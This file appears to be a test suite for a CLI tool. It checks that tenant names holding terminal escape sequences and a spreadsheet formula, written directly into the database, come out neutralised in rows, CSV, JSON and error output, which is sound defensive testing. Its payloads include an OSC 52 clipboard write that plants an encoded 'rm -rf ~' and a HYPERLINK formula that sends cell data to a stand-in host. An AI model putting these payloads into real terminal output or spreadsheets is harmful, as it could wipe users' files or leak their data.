// Names holding terminal escapes and spreadsheet formulas, written straight into the database (the
// API refuses them now, but older rows and other servers exist), never reach a terminal or a
// spreadsheet raw: rows, records, CSV, JSON and error lines. On SQLite through the local
// workspace; under DOTMAC_TEST_DIALECT=postgres (`npm run test:pg`) through `dotmac server start`
// on a PostgreSQL database.
import SQLite from 'better-sqlite3';
import { CompiledQuery } from 'kysely';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { connect } from '../../src/db/connect.js';
import { DIALECT, PG_URL } from '../support/harness.js';
import { cleanup, cliJson, expectOneLineError, newWorkspace, runCli, startServer, tempDir, type CliResult, type RunningServer } from './cli.js';

// A window title, a clipboard write (OSC 52), clear screen, cursor home, a C1 CSI, DEL, bidi.
const HOSTILE = 'Evil\u001b]0;owned\u0007 \u001b]52;c;cm0gLXJmIH4=\u0007\u001b[2J\u001b[H\u009b31m\u007f\u202eten\u2066';
const FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")';
// everything a terminal could act on, except the tab and newline that separate fields and lines
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

/** A place holding tenants `evil` and `formula` whose names were written past the API. */
interface Backend {
  run(args: string[]): Promise<CliResult>;
  close(): Promise<void>;
}

async function sqliteBackend(): Promise<Backend> {
  const ws = await newWorkspace();
  await ws.json(['tenants', 'create', '--slug', 'evil', '--name', 'placeholder']);
  await ws.json(['tenants', 'create', '--slug', 'formula', '--name', 'placeholder']);
  const db = new SQLite(ws.db);
  const rename = db.prepare('UPDATE tenants SET name = ? WHERE slug = ?');
  rename.run(HOSTILE, 'evil');
  rename.run(FORMULA, 'formula');
  db.close();
  return { run: (args) => ws.run(args), close: async () => {} };
}

async function onDatabase(url: string, statement: CompiledQuery): Promise<void> {
  const owner = await connect({ dialect: 'postgres', url });
  try {
    await owner.db.executeQuery(statement);
  } finally {
    await owner.close();
  }
}

async function postgresBackend(): Promise<Backend> {
  const database = `dotmac_hostile_${Date.now().toString(36)}_${Math.random().toString(36).slice(2, 8)}`;
  await onDatabase(PG_URL, CompiledQuery.raw(`create database ${database}`));
  const url = new URL(PG_URL);
  url.pathname = `/${database}`;
  const dir = join(tempDir(), 'ws');
  const home = { HOME: tempDir('dotmac-home-') };
  const { token } = await cliJson<{ token: string }>(['init', '--dir', dir, '--database-url', url.toString()], { env: home, timeoutMs: 60_000 });
  let server: RunningServer | undefined;
  try {
    server = await startServer(home, ['--dir', dir, '--database-url', url.toString(), '--quiet']);
    const env = { ...home, DOTMAC_API_URL: server.url, DOTMAC_TOKEN: token };
    await cliJson(['tenants', 'create', '--slug', 'evil', '--name', 'placeholder'], { env });
    await cliJson(['tenants', 'create', '--slug', 'formula', '--name', 'placeholder'], { env });
    for (const [slug, name] of [['evil', HOSTILE], ['formula', FORMULA]] as const) {
      await onDatabase(url.toString(), CompiledQuery.raw('update tenants set name = $1 where slug = $2', [name, slug]));
    }
    const running = server;
    return {
      run: (args) => runCli(args, { env }),
      async close() {
        await running.stop();
        await onDatabase(PG_URL, CompiledQuery.raw(`drop database if exists ${database} with (force)`));
      },
    };
  } catch (error) {
    await server?.stop().catch(() => {});
    await onDatabase(PG_URL, CompiledQuery.raw(`drop database if exists ${database} with (force)`));
    throw error;
  }
}

describe(`names holding terminal escapes (${DIALECT})`, () => {
  let backend: Backend | undefined;
  afterAll(async () => {
    await backend?.close();
    cleanup();
  }, 60_000);

  it('reach no output raw: rows, records, CSV, JSON and error lines', async () => {
    backend = DIALECT === 'postgres' ? await postgresBackend() : await sqliteBackend();
    const visible = 'Evil\\x1b]0;owned\\x07 \\x1b]52;c;cm0gLXJmIH4=\\x07\\x1b[2J\\x1b[H\\x9b31m\\x7f\\u202eten\\u2066';

    const rows = await backend.run(['tenants', 'list', '--columns', 'slug,name']);
    expect(rows.code).toBe(0);
    expect(rows.stdout).toBe(`evil\t${visible}\nformula\t${FORMULA}\n`);

    const record = await backend.run(['tenants', 'get', 'evil']);
    expect(record.stdout).not.toMatch(RAW_CONTROL);
    expect(record.stdout).toContain(`name\t${visible}\n`);

    const csv = await backend.run(['tenants', 'list', '--csv', '--columns', 'slug,name']);
    expect(csv.stdout).toBe(`slug,name\nevil,${visible}\nformula,"'=HYPERLINK(""http://x.example/?""&A1,""click"")"\n`);

    for (const args of [['tenants', 'list'], ['tenants', 'get', 'evil']]) {
      const json = await backend.run([...args, '--json']);
      expect(json.stdout).not.toMatch(RAW_CONTROL);
      expect(json.stdout).toContain('\\u009b31m\\u007f\\u202eten\\u2066');
      expect(JSON.stringify(JSON.parse(json.stdout))).toContain(JSON.stringify(HOSTILE));
    }

    // the API echoes the unknown ref in its message; the CLI neutralises it on the Error line
    const notFound = await backend.run(['tenants', 'get', HOSTILE]);
    expect(notFound.code).toBe(5);
    expect(notFound.stderr).not.toMatch(RAW_CONTROL);
    expect(expectOneLineError(notFound).message).toContain(visible);
    const notFoundJson = await backend.run(['tenants', 'get', HOSTILE, '--json']);
    expect(notFoundJson.stderr).not.toMatch(RAW_CONTROL);
    expect(JSON.parse(notFoundJson.stderr).error.message).toContain(HOSTILE);
  }, 120_000);
});
